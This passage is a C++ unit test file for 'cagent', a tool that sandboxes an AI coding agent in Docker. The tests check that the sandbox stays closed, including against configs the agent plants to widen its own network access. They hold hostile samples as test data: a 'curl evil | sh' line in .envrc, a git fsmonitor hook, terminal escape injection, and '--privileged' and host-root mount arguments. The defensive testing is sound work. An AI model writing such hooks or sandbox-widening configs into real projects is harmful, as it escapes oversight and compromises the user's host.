// The session wiring against a fake ProcessRunner: what docker is asked to
// do, what exists on the host while the cage runs, and what is left after.
#include <doctest/doctest.h>

#include <algorithm>
#include <cstdlib>

#include <signal.h>

#include <sstream>

#include "dnsguard/contracts.hpp"
#include "launcher/host/docker_argv.hpp"
#include "launcher/host/file_identity.hpp"
#include "launcher/host/image.hpp"
#include "launcher/host/session.hpp"
#include "tests/unit/launcher/fake_engine.hpp"
#include "tests/unit/launcher/test_util.hpp"

using namespace cagent::launcher::host;
using cagent::launcher::host::test::FakeEngine;
using cagent::launcher::host::test::FakeRunner;
using cagent::launcher::host::test::TempDir;
namespace fs = std::filesystem;

namespace {

struct SessionFixture {
  TempDir t;
  HostContext host;
  FakeRunner runner;
  std::ostringstream out;
  std::ostringstream err;
  std::istringstream in;
  std::string runtimes = "{\"io.containerd.runc.v2\":{},\"runc\":{}}";
  bool docker_up = true;
  int container_inspects_left = 2;

  SessionFixture() {
    t.file("ctx/image/Dockerfile", "FROM scratch\n");
    host.image_context = t / "ctx";  // CAGENT_CONTEXT, as main reads it
    host.home = t.dir("home");
    host.cagent_home = t / "home/.cagent";
    host.workspace = t.dir("ws");
    host.workspace_identity = file_identity(host.workspace);  // as main computes it
    host.executable = t / "bin/cagent";
    t.file("ws/.env", "SECRET=1");
    t.file("ws/src/main.c");
    runner.respond = [this](const std::vector<std::string>& argv) {
      RunResult r;
      if (argv[1] == "info") {
        r.status = docker_up ? 0 : 1;
        // Docker 25+ prints the template's empty value before the error.
        r.output = docker_up ? runtimes : "null\nCannot connect to the Docker daemon at unix:///var/run/docker.sock\n";
      } else if (argv[1] == "image" && argv[2] == "inspect") {
        r.status = 1;  // missing: build
      } else if (argv[1] == "container" && argv[2] == "inspect") {
        r.status = --container_inspects_left > 0 ? 0 : 1;  // still there N-1 more times
      } else if (argv[1] == "ps") {
        r.output = "abc\ndef\n";
      } else if (argv[1] == "volume" && argv[2] == "ls") {
        r.output = "cagent-home-0123456789abcdef\ncagent-home-fedcba9876543210\n";
      }
      return r;
    };
  }

  int run(const std::vector<std::string>& args) {
    return run_cagent(parse_cli(args), host, runner, SessionIo{out, err, in});
  }

  // The host side of the bind mount whose container side is `target`.
  fs::path host_side(const std::string& target) const {
    const auto& a = runner.foreground_argv;
    for (std::size_t i = 0; i + 1 < a.size(); ++i) {
      const std::string suffix = ":" + target;
      const std::string& v = a[i + 1];
      if (a[i] == "-v" && (v.size() > suffix.size()) &&
          (v.compare(v.size() - suffix.size(), suffix.size(), suffix) == 0 ||
           v.find(suffix + ":ro") == v.size() - suffix.size() - 3)) {
        return v.substr(0, v.find(':'));
      }
    }
    return {};
  }
};

bool contains(const std::vector<std::string>& argv, const std::string& s) {
  return std::find(argv.begin(), argv.end(), s) != argv.end();
}

}  // namespace

TEST_CASE("session: builds the image, runs the cage, passes the exit status, cleans up") {
  SessionFixture f;
  fs::path session_dir;
  std::string policy;
  f.runner.foreground_status = 7;
  f.runner.during_foreground = [&] {
    const fs::path policy_file = f.host_side("/etc/cagent/policy.toml");
    session_dir = policy_file.parent_path();
    policy = read_file(policy_file);
    CHECK(fs::is_regular_file(session_dir / "empty-file"));
    CHECK(fs::file_size(session_dir / "empty-file") == 0);
    CHECK(fs::is_directory(f.host_side("/var/log/cagent")));
  };
  CHECK(f.run({"--", "make", "test"}) == 7);
  CHECK(f.runner.called_with_prefix({"docker", "build"}));
  const auto& argv = f.runner.foreground_argv;
  CHECK(contains(argv, "-i"));
  CHECK_FALSE(contains(argv, "-t"));  // the fixture has no TTY
  CHECK(contains(argv, f.host.workspace.string() + ":/workspace"));
  CHECK(argv.back() == "test");
  CHECK_FALSE(contains(argv, "--runtime"));
  CHECK(policy.find("\"api.anthropic.com\"") != std::string::npos);
  CHECK(policy.find("upstreams") == std::string::npos);  // default: Docker's resolver
  CHECK_FALSE(session_dir.empty());
  CHECK_FALSE(fs::exists(session_dir));  // session dir removed at exit
  CHECK(fs::is_regular_file(f.host.cagent_home / "config.yaml"));  // first run wrote it
  CHECK(f.err.str().find("nested Docker is unavailable") != std::string::npos);
  // Said once: not on the second run.
  f.err.str("");
  CHECK(f.run({"--no-update", "--", "true"}) == 7);
  CHECK(f.err.str().find("nested Docker") == std::string::npos);
}

TEST_CASE("session: the global config is never overwritten") {
  SessionFixture f;
  fs::create_directories(f.host.cagent_home);
  write_file(f.host.cagent_home / "config.yaml", "domains: [only.example]\n", 0644);
  std::string policy;
  f.runner.during_foreground = [&] { policy = read_file(f.host_side("/etc/cagent/policy.toml")); };
  CHECK(f.run({"--no-update", "-d", "flag.example", "--", "true"}) == 0);
  CHECK(read_file(f.host.cagent_home / "config.yaml") == "domains: [only.example]\n");
  CHECK(policy.find("\"only.example\"") != std::string::npos);
  CHECK(policy.find("\"flag.example\"") != std::string::npos);
  CHECK(policy.find("api.anthropic.com") == std::string::npos);
}

TEST_CASE("session: docker info is asked once per engine, not once per session") {
  SessionFixture f;
  const auto infos = [&] {
    return std::count_if(f.runner.calls.begin(), f.runner.calls.end(),
                         [](const auto& c) { return c[1] == "info"; });
  };
  f.host.engine_key = "1234:5.6";
  f.runtimes = "{\"runc\":{},\"sysbox-runc\":{}}";
  CHECK(f.run({"--no-update", "--", "true"}) == 0);
  CHECK(infos() == 1);
  CHECK(contains(f.runner.foreground_argv, "sysbox-runc"));
  f.runtimes = "{\"runc\":{}}";  // the engine changed, but its key did not: remembered
  CHECK(f.run({"--no-update", "--", "true"}) == 0);
  CHECK(infos() == 1);
  CHECK(contains(f.runner.foreground_argv, "sysbox-runc"));
  f.host.engine_key = "1234:9.9";  // dockerd restarted: ask again
  CHECK(f.run({"--no-update", "--", "true"}) == 0);
  CHECK(infos() == 2);
  CHECK_FALSE(contains(f.runner.foreground_argv, "sysbox-runc"));
  f.host.engine_key.reset();  // remote engine: always ask
  CHECK(f.run({"--no-update", "--", "true"}) == 0);
  CHECK(infos() == 3);
}

TEST_CASE("session: sysbox, CA bundle and resolvers reach argv and policy") {
  SessionFixture f;
  f.runtimes = "{\"runc\":{},\"sysbox-runc\":{\"path\":\"/usr/bin/sysbox-runc\"}}";
  const auto ca = f.t.file("corp.pem", "-----BEGIN CERTIFICATE-----\nQUJD\n-----END CERTIFICATE-----\n");
  // The machine's resolvers belong in the global config; the workspace's
  // are ignored while it is not trusted (they would decide every address).
  fs::create_directories(f.host.cagent_home);
  write_file(f.host.cagent_home / "config.yaml", "domains: [a.example]\ndns_resolvers: ['192.0.2.53']\n", 0644);
  write_file(f.host.workspace / ".cagent.yaml", "dns_resolvers: ['203.0.113.66']\n", 0644);
  std::string bundle;
  std::string policy;
  f.runner.during_foreground = [&] {
    bundle = read_file(f.host_side("/etc/cagent/extra-ca.pem"));
    policy = read_file(f.host_side("/etc/cagent/policy.toml"));
  };
  CHECK(f.run({"--no-update", "--accept-workspace-config", "--ca-cert", ca.string(), "--", "true"}) == 0);
  const auto& argv = f.runner.foreground_argv;
  CHECK(contains(argv, "sysbox-runc"));
  CHECK(contains(argv, "--ca-bundle"));
  CHECK(bundle.find("QUJD") != std::string::npos);
  CHECK(policy.find("upstreams = [ \"192.0.2.53:53\" ]") != std::string::npos);
  CHECK(policy.find("203.0.113.66") == std::string::npos);
  CHECK(f.err.str().find("ignoring dns_resolvers") != std::string::npos);
}

TEST_CASE("session: workspace extra_args are ignored with a hint until the workspace is trusted") {
  SessionFixture f;
  write_file(f.host.workspace / ".cagent.yaml", "extra_args: ['--privileged']\n", 0644);
  CHECK(f.run({"--no-update", "--accept-workspace-config", "--", "true"}) == 0);
  CHECK_FALSE(contains(f.runner.foreground_argv, "--privileged"));
  CHECK(f.err.str().find("not trusted") != std::string::npos);
  CHECK(f.err.str().find((f.host.cagent_home / "trusted").string()) != std::string::npos);
  write_file(f.host.cagent_home / "trusted", "# trusted workspaces\n" + f.host.workspace.string() + "/\n",
             0644);
  CHECK(f.run({"--no-update", "--", "true"}) == 0);
  CHECK(contains(f.runner.foreground_argv, "--privileged"));
}

TEST_CASE("session: Ctrl-C / SIGTERM stop the container by name and remove it") {
  SessionFixture f;
  f.runner.signals_during_run = {SIGINT, SIGTERM};
  f.runner.foreground_status = 143;  // what docker run reports after "docker stop"
  CHECK(f.run({"--no-update", "--", "sleep", "100"}) == 128 + SIGINT);  // the user's signal
  std::string name;
  for (std::size_t i = 0; i + 1 < f.runner.foreground_argv.size(); ++i) {
    if (f.runner.foreground_argv[i] == "--name") name = f.runner.foreground_argv[i + 1];
  }
  REQUIRE(name.rfind("cagent-", 0) == 0);
  CHECK(f.runner.called_with_prefix({"docker", "stop", "--time", "3", name}));
  CHECK(f.runner.called_with_prefix({"docker", "kill", name}));  // second signal
  CHECK(f.runner.called_with_prefix({"docker", "rm", "-f", name}));
  // Waited until the daemon's auto-removal finished (two probes here).
  CHECK(std::count_if(f.runner.calls.begin(), f.runner.calls.end(), [](const auto& c) {
          return c[1] == "container" && c[2] == "inspect";
        }) == 2);
  const bool leftover =
      fs::exists(f.host.cagent_home / "sessions") && !fs::is_empty(f.host.cagent_home / "sessions");
  CHECK_FALSE(leftover);
}

TEST_CASE("session: docker failures") {
  SessionFixture f;
  f.runner.foreground_status = 125;
  CHECK(f.run({"--no-update", "--", "true"}) == 125);
  CHECK(f.err.str().find("docker run failed (exit 125") != std::string::npos);
  f.docker_up = false;
  CHECK_THROWS_AS(f.run({"--", "true"}), DockerError);
}

TEST_CASE("session: the engine going away during the session is said, with 125") {
  SessionFixture f;
  f.host.engine_socket = f.t / "docker.sock";
  FakeEngine engine(*f.host.engine_socket);
  fs::path sessions = f.host.cagent_home / "sessions";
  const auto no_record_left = [&] { return !fs::exists(sessions) || fs::is_empty(sessions); };
  const std::string lost = "cagent: the Docker engine went away during the session (";

  SUBCASE("killed: docker run says unexpected EOF (125)") {
    f.runner.foreground_status = 125;
    f.runner.during_foreground = [&] {
      CHECK(f.runner.foreground_hangup.fd >= 0);  // the watch is in docker run's poll
      engine.die();
    };
    CHECK(f.run({"--no-update", "--", "sleep", "300"}) == kExitDocker);
    CHECK(f.err.str().find(lost + "its connection to cagent closed); the cage stops itself") != std::string::npos);
    CHECK(f.err.str().find("docker run failed") == std::string::npos);
    CHECK(no_record_left());
  }
  SUBCASE("stopped gracefully: it ended the cage first, docker run returned the cage's 143") {
    f.runner.foreground_status = 143;
    f.runner.during_foreground = [&] { engine.drop_watches(); };
    CHECK(f.run({"--no-update", "--", "sleep", "300"}) == kExitDocker);
    CHECK(f.err.str().find(lost + "its connection to cagent closed)") != std::string::npos);
    CHECK(no_record_left());
  }
  SUBCASE("docker run outlived the engine and was killed") {
    f.runner.foreground_status = 128 + SIGKILL;
    f.runner.foreground_hung_up = true;
    f.runner.foreground_killed = true;
    CHECK(f.run({"--no-update", "--", "sleep", "300"}) == kExitDocker);
    CHECK(f.err.str().find(lost + "its connection to cagent closed; docker run did not notice and was killed)") !=
          std::string::npos);
    CHECK(no_record_left());
  }
  SUBCASE("control: the engine stays; the command's own 143, 125 and 0 are the command's") {
    f.runner.foreground_status = 143;
    CHECK(f.run({"--no-update", "--", "sleep", "300"}) == 143);
    f.runner.foreground_status = 125;
    CHECK(f.run({"--no-update", "--", "sh", "-c", "exit 125"}) == 125);
    CHECK(f.err.str().find("docker run failed (exit 125") != std::string::npos);
    f.runner.foreground_status = 0;
    CHECK(f.run({"--no-update", "--", "true"}) == 0);
    CHECK(f.err.str().find("went away") == std::string::npos);
    CHECK(no_record_left());
  }
  SUBCASE("control: no local engine to watch (a remote engine): docker run's status as before") {
    f.host.engine_socket.reset();
    f.runner.foreground_status = 143;
    f.runner.during_foreground = [&] {
      CHECK(f.runner.foreground_hangup.fd == -1);
      engine.die();
    };
    CHECK(f.run({"--no-update", "--", "sleep", "300"}) == 143);
    CHECK(f.err.str().find("went away") == std::string::npos);
  }
  SUBCASE("a signal from the user wins, and nothing is asked of a lost engine") {
    f.runner.signals_during_run = {SIGINT};
    f.runner.foreground_status = 125;
    f.runner.foreground_hung_up = true;
    CHECK(f.run({"--no-update", "--", "sleep", "300"}) == 128 + SIGINT);
    CHECK_FALSE(f.runner.called_with_prefix({"docker", "rm"}));
    CHECK(f.err.str().find("went away") == std::string::npos);
  }
}

TEST_CASE("stages: what happened, from the outcome alone") {
  using Kind = SessionEnd::Kind;
  const auto decide = [](SessionOutcome o) { return decide_session_end(o); };
  CHECK(decide({7, false, SIGTERM}).kind == Kind::command_exited);
  CHECK(decide({7, false, SIGTERM}).status == 7);
  CHECK(decide({143, false, SIGTERM, EngineCheck::answered}).status == 143);
  CHECK(decide({kExitDocker, false, SIGTERM}).kind == Kind::docker_failed);
  CHECK(decide({kExitDocker, false, SIGTERM, EngineCheck::answered}).kind == Kind::docker_failed);
  for (EngineCheck gone : {EngineCheck::closed, EngineCheck::refused, EngineCheck::silent}) {
    for (int status : {0, 1, 125, 137, 143}) {
      const SessionEnd end = decide({status, false, SIGTERM, gone});
      CHECK(end.kind == Kind::engine_lost);
      CHECK(end.status == kExitDocker);
    }
  }
  const SessionEnd stopped = decide({125, true, SIGINT, EngineCheck::closed});
  CHECK(stopped.kind == Kind::stopped);
  CHECK(stopped.status == 128 + SIGINT);
}

TEST_CASE("session: blocked-lookups summary at exit") {
  SessionFixture f;
  f.runner.during_foreground = [&] {
    // What dnsguard leaves in the session's log directory.
    cagent::dnsguard::Decisions record;
    record.denied_total = 3;
    record.denied = {{"pypi.org", 1, 1, 1, 1}, {"pypi.org", 28, 1, 1, 1}, {"example.net", 1, 1, 1, 1}};
    write_file(f.host_side("/var/log/cagent") / "decisions.json", cagent::dnsguard::write_decisions(record), 0644);
  };
  CHECK(f.run({"--no-update", "--", "true"}) == 0);
  CHECK(f.err.str().find("cagent: blocked 3 lookups: pypi.org \xC3\x97" "2, example.net") !=
        std::string::npos);
}

TEST_CASE("session: --dry-run prints the commands and touches nothing") {
  SessionFixture f;
  CHECK(f.run({"--dry-run", "--", "echo", "a b"}) == 0);
  // Only a question to the engine (read-only), nothing started, nothing written.
  for (const auto& call : f.runner.calls) CHECK(call == std::vector<std::string>{"docker", "info", "--format", "{{json .Runtimes}}"});
  CHECK(f.runner.foreground_argv.empty());
  CHECK_FALSE(fs::exists(f.host.cagent_home));
  const std::string out = f.out.str();
  CHECK(out.find("docker build -f ") != std::string::npos);
  CHECK(out.find("docker run --rm --init -i ") != std::string::npos);
  CHECK(out.find("-- echo 'a b'") != std::string::npos);
  CHECK(out.find("sysbox") == std::string::npos);  // this engine has none: nothing about it
}

TEST_CASE("session: --dry-run shows the command a real run uses, sysbox included: without an engine it says so") {
  SessionFixture f;
  f.runtimes = "{\"runc\":{},\"sysbox-runc\":{}}";
  CHECK(f.run({"--dry-run", "--", "true"}) == 0);
  CHECK(f.out.str().find("--runtime sysbox-runc") != std::string::npos);
  CHECK(f.out.str().find("NESTED_DOCKER=1") != std::string::npos);
  CHECK(f.out.str().find("--nested-docker") != std::string::npos);
  f.out.str("");
  f.docker_up = false;
  CHECK(f.run({"--dry-run", "--", "true"}) == 0);
  CHECK(f.out.str().find("# cannot reach the Docker engine (docker info: Cannot connect to the Docker daemon at") == 0);
  CHECK(f.out.str().find("--runtime sysbox-runc") == std::string::npos);
  CHECK(f.out.str().find("docker run --rm --init") != std::string::npos);
  // A real run needs the engine: the same answer is an error there (main maps it to 125).
  CHECK_THROWS_WITH_AS(f.run({"--", "true"}), doctest::Contains("cannot reach the Docker engine"), DockerError);
}

TEST_CASE("session: --print-config, --version, --help") {
  SessionFixture f;
  CHECK(f.run({"--print-config", "--no-global-config", "-d", "x.example"}) == 0);
  CHECK(f.out.str().find("x.example  # command line:") != std::string::npos);
  CHECK(f.out.str().find("api.anthropic.com  # <built-in default>") != std::string::npos);
  CHECK(f.run({"--version"}) == 0);
  CHECK(f.out.str().find("cagent ") != std::string::npos);
  CHECK(f.run({"--help"}) == 0);
  CHECK(f.out.str().find("--reset[=civd]") != std::string::npos);
  CHECK(f.runner.calls.empty());
}

TEST_CASE("session: config errors surface with their position") {
  SessionFixture f;
  write_file(f.host.workspace / ".cagent.yaml", "domains: [ok.example]\nbogus: 1\n", 0644);
  try {
    f.run({"--no-update", "--accept-workspace-config", "--", "true"});
    FAIL("no error");
  } catch (const ConfigError& e) {
    CHECK(std::string(e.what()) == (f.host.workspace / ".cagent.yaml").string() +
                                       ":2:1: unknown key 'bogus' (known: ignore, readonly, domains, "
                                       "extra_args, dns_resolvers, ca_certificates, connection_gate, "
                                       "image_packages, secrets, learn, ask, ask_timeout)");
  }
  CHECK(f.runner.foreground_argv.empty());
}

TEST_CASE("reset: refuses without a terminal unless -y: with -y removes what it said") {
  SessionFixture f;
  fs::create_directories(f.host.cagent_home / "logs");
  CHECK(f.run({"--reset-all"}) == kExitUsage);
  CHECK(f.err.str().find("refusing to reset without confirmation") != std::string::npos);
  CHECK(f.runner.calls.empty());
  CHECK(fs::exists(f.host.cagent_home));

  CHECK(f.run({"--reset-all", "-y"}) == 0);
  CHECK(f.runner.called_with_prefix({"docker", "ps", "-aq", "--filter", "label=cagent.session"}));
  CHECK(f.runner.called_with_prefix({"docker", "rm", "-f", "abc", "def"}));
  CHECK(f.runner.called_with_prefix({"docker", "image", "rm", "-f", "cagent:latest"}));
  // Every workspace's home volume (found by label) and the old shared one.
  CHECK(f.runner.called_with_prefix({"docker", "volume", "ls", "-q", "--filter", "label=cagent.home=cagent-home"}));
  CHECK(f.runner.called_with_prefix(
      {"docker", "volume", "rm", "-f", "cagent-home", "cagent-home-0123456789abcdef", "cagent-home-fedcba9876543210"}));
  CHECK(f.err.str().find("home volumes") != std::string::npos);
  CHECK_FALSE(fs::exists(f.host.cagent_home));
  CHECK(fs::exists(f.host.workspace / ".env"));  // workspace untouched

  SessionFixture g;
  g.host.stdin_tty = true;
  g.in.str("n\n");
  CHECK(g.run({"--reset=i"}) == 1);
  CHECK(g.runner.calls.empty());
  g.in.clear();
  g.in.str("y\n");
  CHECK(g.run({"--reset", "i"}) == 0);
  CHECK(g.runner.called_with_prefix({"docker", "image", "rm", "-f", "cagent:latest"}));
  CHECK_FALSE(g.runner.called_with_prefix({"docker", "volume"}));
}

TEST_CASE("session: a .cagent.yaml planted during a session is not used unseen") {
  SessionFixture f;
  const fs::path ws_config = f.host.workspace / ".cagent.yaml";
  std::string policy;
  const auto read_policy = [&] { policy = read_file(f.host_side("/etc/cagent/policy.toml")); };
  // Session 1: no .cagent.yaml; the "agent" writes one that widens domains.
  f.runner.during_foreground = [&] { write_file(ws_config, "domains: [evil.example]\n", 0644); };
  CHECK(f.run({"--no-update", "--", "true"}) == 0);
  CHECK(f.err.str().find("created or changed " + ws_config.string()) != std::string::npos);

  // Session 2, no terminal: ignored with one line naming the file and how
  // to accept it.
  f.err.str("");
  f.runner.during_foreground = read_policy;
  CHECK(f.run({"--no-update", "--", "true"}) == 0);
  CHECK(policy.find("evil.example") == std::string::npos);
  const std::string warning = "cagent: ignoring " + ws_config.string() + ": ";
  CHECK(f.err.str().find(warning) != std::string::npos);
  CHECK(f.err.str().find("--accept-workspace-config") != std::string::npos);

  // Session 3, a terminal, the user says no: shown with what it adds, not
  // used, asked again later.
  f.host.stdin_tty = true;
  f.err.str("");
  f.in.str("n\n");
  f.in.clear();
  CHECK(f.run({"--no-update", "--", "true"}) == 0);
  CHECK(policy.find("evil.example") == std::string::npos);
  CHECK(f.err.str().find("  | domains: [evil.example]") != std::string::npos);
  CHECK(f.err.str().find("  - domains the cage may reach: evil.example") != std::string::npos);
  CHECK(f.err.str().find("[y/N]") != std::string::npos);
  CHECK(f.err.str().find("not using " + ws_config.string() + " in this session") != std::string::npos);

  // Session 4: yes. Used, and remembered: no question next time.
  f.err.str("");
  f.in.str("y\n");
  f.in.clear();
  CHECK(f.run({"--no-update", "--", "true"}) == 0);
  CHECK(policy.find("evil.example") != std::string::npos);
  f.err.str("");
  f.in.str("");
  f.in.clear();
  f.host.stdin_tty = false;
  CHECK(f.run({"--no-update", "--", "true"}) == 0);
  CHECK(policy.find("evil.example") != std::string::npos);
  CHECK(f.err.str().find(".cagent.yaml") == std::string::npos);
  // The approval lives under CAGENT_HOME, never in the workspace.
  CHECK(fs::is_directory(f.host.cagent_home / "approvals"));
  CHECK(std::distance(fs::directory_iterator(f.host.workspace), fs::directory_iterator()) == 3);  // .env src .cagent.yaml
}

TEST_CASE("session: the file shown for review carries no raw control characters") {
  SessionFixture f;
  const fs::path ws_config = f.host.workspace / ".cagent.yaml";
  f.runner.during_foreground = [&] {
    write_file(ws_config, "domains: [a.example]\n# \x1b]0;pwned\x07\r\x1b[2Kok\n", 0644);
  };
  CHECK(f.run({"--no-update", "--", "true"}) == 0);
  f.host.stdin_tty = true;
  f.err.str("");
  f.in.str("n\n");
  f.runner.during_foreground = nullptr;
  CHECK(f.run({"--no-update", "--", "true"}) == 0);
  const std::string err = f.err.str();
  CHECK(err.find('\x1b') == std::string::npos);
  CHECK(err.find('\r') == std::string::npos);
  CHECK(err.find('\x07') == std::string::npos);
  CHECK(err.find("\\x1b]0;pwned") != std::string::npos);
}

TEST_CASE("session: the question says which trust-gated keys the file sets and whether they apply") {
  SessionFixture f;
  write_file(f.host.workspace / ".cagent.yaml", "extra_args: ['-v', '/:/host']\nimage_packages: [sl]\n", 0644);
  f.host.stdin_tty = true;
  f.in.str("n\n");
  CHECK(f.run({"--no-update", "--", "true"}) == 0);
  CHECK(f.err.str().find("  - extra_args: -v /:/host (ignored: this workspace is not trusted)") != std::string::npos);
  CHECK(f.err.str().find("  - image_packages: sl (ignored: this workspace is not trusted)") != std::string::npos);
  write_file(f.host.cagent_home / "trusted", f.host.workspace.string() + "\n", 0644);
  f.err.str("");
  f.in.clear();
  f.in.str("n\n");
  CHECK(f.run({"--no-update", "--", "true"}) == 0);
  CHECK(f.err.str().find("  - extra_args: -v /:/host (applies: this workspace is in ~/.cagent/trusted)") !=
        std::string::npos);
  CHECK_FALSE(contains(f.runner.foreground_argv, "/:/host"));  // the answer was no
}

TEST_CASE("session: --accept-workspace-config approves the exact content: a user edit asks again") {
  SessionFixture f;
  const fs::path ws_config = f.host.workspace / ".cagent.yaml";
  std::string policy;
  f.runner.during_foreground = [&] { write_file(ws_config, "domains: [planted.example]\n", 0644); };
  CHECK(f.run({"--no-update", "--", "true"}) == 0);
  f.runner.during_foreground = [&] { policy = read_file(f.host_side("/etc/cagent/policy.toml")); };
  CHECK(f.run({"--no-update", "--accept-workspace-config", "--", "true"}) == 0);
  CHECK(policy.find("planted.example") != std::string::npos);
  CHECK(f.run({"--no-update", "--", "true"}) == 0);
  CHECK(policy.find("planted.example") != std::string::npos);
  // The user edits it: other bytes, not approved yet (the user's word is
  // the only way to tell their edit from anyone else's).
  write_file(ws_config, "domains: [users-own.example]\n", 0644);
  f.err.str("");
  CHECK(f.run({"--no-update", "--", "true"}) == 0);
  CHECK(policy.find("users-own.example") == std::string::npos);
  CHECK(f.err.str().find("ignoring " + ws_config.string() + ": it changed since you approved it") !=
        std::string::npos);
  CHECK(f.run({"--no-update", "--accept-workspace-config", "--", "true"}) == 0);
  CHECK(policy.find("users-own.example") != std::string::npos);
  // Switching back to the earlier approved content needs no new approval.
  write_file(ws_config, "domains: [planted.example]\n", 0644);
  f.err.str("");
  CHECK(f.run({"--no-update", "--", "true"}) == 0);
  CHECK(policy.find("planted.example") != std::string::npos);
  CHECK(f.err.str().find("ignoring") == std::string::npos);
}

TEST_CASE("session: a config approved in one directory is not approved after mv, cp -a or rm + mkdir") {
  SessionFixture f;
  const fs::path original = f.host.workspace;
  std::string policy;
  f.runner.during_foreground = [&] { policy = read_file(f.host_side("/etc/cagent/policy.toml")); };
  write_file(original / ".cagent.yaml", "domains: [approved.example]\n", 0644);
  CHECK(f.run({"--no-update", "--accept-workspace-config", "--", "true"}) == 0);
  CHECK(policy.find("approved.example") != std::string::npos);
  // The positive control: the same directory keeps its approval.
  CHECK(f.run({"--no-update", "--", "true"}) == 0);
  CHECK(policy.find("approved.example") != std::string::npos);

  const auto run_in = [&](const fs::path& ws) {
    f.host.workspace = ws;
    f.host.workspace_identity = file_identity(ws);
    f.err.str("");
    policy.clear();
    CHECK(f.run({"--no-update", "--", "true"}) == 0);
  };
  // cp -a: the copy is another directory (new inode), whatever it holds.
  const std::string cp = "cp -a '" + original.string() + "' '" + (f.t / "copy").string() + "'";
  REQUIRE(std::system(cp.c_str()) == 0);
  run_in(f.t / "copy");
  CHECK(policy.find("approved.example") == std::string::npos);
  CHECK(f.err.str().find("not approved it in this directory") != std::string::npos);
  // mv: the same directory at another path; approved for the old path only.
  fs::rename(original, f.t / "renamed");
  run_in(f.t / "renamed");
  CHECK(policy.find("approved.example") == std::string::npos);
  CHECK(f.err.str().find("--accept-workspace-config") != std::string::npos);
  // rm -rf and a new directory at the original path, same content.
  fs::remove_all(f.t / "renamed");
  fs::create_directory(original);
  write_file(original / ".cagent.yaml", "domains: [approved.example]\n", 0644);
  run_in(original);
  CHECK(policy.find("approved.example") == std::string::npos);
  CHECK(f.err.str().find("ignoring " + (original / ".cagent.yaml").string()) != std::string::npos);
}

TEST_CASE("session: a workspace .cagent.yaml that came with it is not used unapproved: .envrc changes are named") {
  SessionFixture f;
  write_file(f.host.workspace / ".cagent.yaml", "domains: [repo.example]\n", 0644);
  std::string policy;
  f.runner.during_foreground = [&] {
    policy = read_file(f.host_side("/etc/cagent/policy.toml"));
    write_file(f.host.workspace / ".envrc", "curl evil | sh\n", 0644);
  };
  CHECK(f.run({"--no-update", "--", "true"}) == 0);
  CHECK(policy.find("repo.example") == std::string::npos);
  CHECK(f.err.str().find("ignoring " + (f.host.workspace / ".cagent.yaml").string()) != std::string::npos);
  CHECK(f.err.str().find("changed " + (f.host.workspace / ".envrc").string()) != std::string::npos);
  CHECK(f.err.str().find("direnv") != std::string::npos);
}

TEST_CASE("session: without a directory identity nothing is remembered and the home goes with the container") {
  SessionFixture f;
  f.host.workspace_identity.reset();
  write_file(f.host.workspace / ".cagent.yaml", "domains: [w.example]\n", 0644);
  std::string policy;
  f.runner.during_foreground = [&] { policy = read_file(f.host_side("/etc/cagent/policy.toml")); };
  CHECK(f.run({"--no-update", "--accept-workspace-config", "--", "true"}) == 0);
  CHECK(policy.find("w.example") != std::string::npos);
  CHECK(f.err.str().find("in this session only") != std::string::npos);
  CHECK(f.err.str().find("the agent's home starts empty") != std::string::npos);
  CHECK(contains(f.runner.foreground_argv,
                 "type=volume,target=/home/agent,volume-label=cagent.home=cagent-home,volume-label=cagent.workspace=" +
                     f.host.workspace.string()));
  CHECK(f.run({"--no-update", "--", "true"}) == 0);
  CHECK(policy.find("w.example") == std::string::npos);
  CHECK_FALSE(fs::exists(f.host.cagent_home / "approvals"));
}

TEST_CASE("session: --dry-run and --print-config remember nothing") {
  SessionFixture f;
  write_file(f.host.workspace / ".cagent.yaml", "domains: [a.example]\n", 0644);
  CHECK(f.run({"--dry-run", "--accept-workspace-config", "--", "true"}) == 0);
  CHECK(f.run({"--print-config", "--accept-workspace-config"}) == 0);
  CHECK(f.out.str().find("a.example  # " + (f.host.workspace / ".cagent.yaml").string()) != std::string::npos);
  CHECK_FALSE(fs::exists(f.host.cagent_home));
  f.out.str("");
  CHECK(f.run({"--print-config"}) == 0);
  CHECK(f.out.str().find("a.example") == std::string::npos);
}

TEST_CASE("session: the home volume is the workspace directory's own: CAGENT_HOME_VOLUME's prefix is used") {
  SessionFixture f;
  f.host.home_volume_prefix = "cagent-test-home";
  const auto home_of = [&] {
    f.host.workspace_identity = file_identity(f.host.workspace);
    CHECK(f.run({"--no-update", "--", "true"}) == 0);
    for (const std::string& a : f.runner.foreground_argv) {
      if (a.rfind("type=volume,", 0) == 0) return a;
    }
    return std::string();
  };
  const std::string first = home_of();
  REQUIRE(f.host.workspace_identity);
  CHECK(first == "type=volume,source=" + home_volume_name("cagent-test-home", *f.host.workspace_identity) +
                     ",target=/home/agent,volume-label=cagent.home=cagent-test-home,volume-label=cagent.workspace=" +
                     f.host.workspace.string());
  CHECK(home_of() == first);  // the same directory keeps its home
  // rm -rf and a new directory at the same path: a fresh home.
  fs::remove_all(f.host.workspace);
  fs::create_directory(f.host.workspace);
  const std::string again = home_of();
  CHECK(again.find("source=cagent-test-home-") != std::string::npos);
  CHECK(again != first);
}

TEST_CASE("session: the end names the git repositories the session created, and nothing else") {
  SessionFixture f;
  f.t.file("ws/.git/HEAD", "ref: refs/heads/main\n");
  f.t.dir("ws/.git/objects");
  f.t.dir("ws/.git/refs");
  // A session that creates none: no such line (the workspace's own .git is old).
  CHECK(f.run({"--no-update", "--", "true"}) == 0);
  CHECK(f.err.str().find("git repositor") == std::string::npos);
  // git init vendor/lib and core.fsmonitor, during the session.
  f.runner.during_foreground = [&] {
    f.t.file("ws/vendor/lib/.git/HEAD", "ref: refs/heads/main\n");
    f.t.file("ws/vendor/lib/.git/config", "[core]\n\tfsmonitor = touch /tmp/pwned\n");
    f.t.dir("ws/vendor/lib/.git/objects");
    f.t.dir("ws/vendor/lib/.git/refs");
  };
  f.err.str("");
  CHECK(f.run({"--no-update", "--", "true"}) == 0);
  const std::string err = f.err.str();
  CHECK(err.find("cagent: this session created a git repository in the workspace") != std::string::npos);
  CHECK(err.find("core.fsmonitor") != std::string::npos);
  CHECK(err.find("cagent:   vendor/lib/.git (a new .git directory)") != std::string::npos);
  CHECK(err.find("cagent:   .git ") == std::string::npos);
  // The next session started with it: not new any more.
  f.runner.during_foreground = nullptr;
  f.err.str("");
  CHECK(f.run({"--no-update", "--", "true"}) == 0);
  CHECK(f.err.str().find("git repositor") == std::string::npos);
}

// The stages one by one (run_cagent chains them).

TEST_CASE("stages: prepare reads only and describes the session") {
  SessionFixture f;
